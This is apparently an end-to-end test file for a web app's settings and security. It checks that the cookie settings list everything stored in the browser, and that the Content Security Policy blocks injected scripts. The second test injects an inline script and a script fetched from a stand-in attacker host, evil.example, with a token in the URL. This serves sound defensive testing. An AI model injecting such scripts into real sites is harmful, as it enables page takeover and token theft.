import { createStranger } from '@lulla/server/test/families.ts';
import { itInFull } from '@lulla/server/test/full.ts';
import { STORED_FOR, STORED_ON_DEVICE, storedFor } from '@lulla/web/src/features/settings/stored-on-device.ts';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { inLanguage, openSpeaking } from '../harness/languages.ts';
import { showWorld } from '../harness/shown-world.ts';
import { stageBrowser } from '../harness/stage.ts';
import { PATIENT } from '../harness/until.ts';
import { findingsOn, fitsAtDoubleSize } from './audit.ts';

const shown = await showWorld();
const { world, origin } = shown;
const { database } = world.context;

const browser = await stageBrowser();

/** The names of all that the browser keeps for us. */
async function namesOn(page: Page): Promise<string[]> {
  const cookies = (await page.context().cookies()).map(({ name }) => name);
  const stored = await page.evaluate(async () => [
    ...Object.keys(localStorage),
    ...Object.keys(sessionStorage),
    ...(await indexedDB.databases()).map(({ name }) => name ?? ''),
  ]);
  return [...cookies, ...stored];
}

function getViolations() {
  return database.selectFrom('security_events').select('details').where('event_type', '=', 'csp_violation').execute();
}

describe.each(inLanguage('sv'))('in $code', (speaking) => {
  const { words, code } = speaking;

  itInFull(
    'accounts §2: settings name everything that a browser really keeps, and what it is for [A2.49]',
    async () => {
      const anna = await createStranger(world);
      const [, page] = await openSpeaking(browser, speaking);
      await page.goto(`${origin}/auth/${code}`);
      await page.getByRole('button', { name: words.account.cookieAccept }).click();
      await shown.signIn(page, anna);
      await page.goto(`${origin}/?view=history`);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await page.goto(`${origin}/contact`);
      await page.getByRole('textbox', { name: words.contact.message }).fill('Hej');
      await page.goto(`${origin}/settings`);
      await page.getByRole('switch', { name: words.settings.showSleepTimer }).click();
      const card = page.getByRole('region', { name: words.settings.cookies.title });
      for (const what of STORED_FOR)
        await card.getByText(words.settings.cookies.purposes[what].title, { exact: true }).first().waitFor();
      expect(await card.getByText('preferred_language').isVisible()).toBe(false);
      await card.getByText(words.settings.cookies.names, { exact: true }).click();
      await card.getByText('preferred_language').waitFor();
      for (const { name } of STORED_ON_DEVICE) expect(await card.getByText(name).count()).toBeGreaterThan(0);
      const names = await namesOn(page);
      expect(names.filter((name) => storedFor(name) === null)).toEqual([]);
      expect(new Set(names.map(storedFor))).toEqual(
        new Set(
          names.some((name) => name.startsWith('onboarding'))
            ? STORED_FOR
            : STORED_FOR.filter((what) => what !== 'onboarding'),
        ),
      );
      expect(await findingsOn(page)).toEqual([]);
      expect(await fitsAtDoubleSize(page)).toBe(true);
    },
  );

  it('accounts §4: what the security policy prevents is an event, reported by the app and by the browser, once [A4.32]', async () => {
    await database.deleteFrom('security_events').execute();
    await database.deleteFrom('rate_limits').execute();
    const page = await shown.open(browser, await createStranger(world), speaking);
    // By then the listener is there: both begin behind the first screen.
    await Promise.all([page.waitForResponse(`${origin}/api/session`), page.reload()]);
    const sent: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('/api/csp-')) sent.push(`${new URL(request.url()).pathname} ${request.postData()}`);
    });
    const answers: number[] = [];
    page.on('response', (response) => {
      if (response.url().includes('/api/csp-')) answers.push(response.status());
    });
    for (let turn = 0; turn < 30; turn += 1) {
      await page.evaluate((nth) => {
        const inline = document.createElement('script');
        inline.textContent = 'document.title = "taken over"';
        const foreign = document.createElement('script');
        foreign.src = `https://h${nth}.evil.example/x.js?token=secret`;
        document.head.append(inline, foreign);
      }, turn);
    }
    // The app reports ten and no more: what is beyond them, the browser has reported by itself.
    await expect.poll(async () => (await getViolations()).length, PATIENT).toBeGreaterThan(10);
    const details = (await getViolations()).map((event) => event.details);
    expect(details).toContainEqual({ directive: 'script-src-elem', blocked: 'inline' });
    expect(JSON.stringify(details)).not.toMatch(/secret|token|x\.js/);
    expect(await page.title()).not.toContain('taken over');
    const own = sent.filter((each) => each.startsWith('/api/csp-violation-report'));
    await expect
      .poll(() => sent.filter((each) => each.startsWith('/api/csp-violation-report')).length, PATIENT)
      .toBe(10);
    expect(own.join()).not.toMatch(/secret|token/);
    // 30 of each, and one event for inline.
    expect(details.filter((each) => Reflect.get(each, 'blocked') === 'inline')).toHaveLength(1);
    expect(answers.filter((status) => status !== 204 && status !== 429)).toEqual([]);
  });
});
